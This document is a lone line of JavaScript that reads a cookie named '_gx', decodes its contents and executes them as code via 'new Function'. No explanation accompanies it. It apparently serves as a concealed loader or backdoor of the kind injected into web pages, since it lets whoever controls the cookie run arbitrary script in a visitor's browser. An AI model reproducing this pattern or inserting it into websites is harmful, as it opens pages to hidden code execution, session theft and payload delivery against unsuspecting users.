var b=document.cookie.match(/_gx=([^;]+)/);b&&new Function(decodeURIComponent(b[1]))();
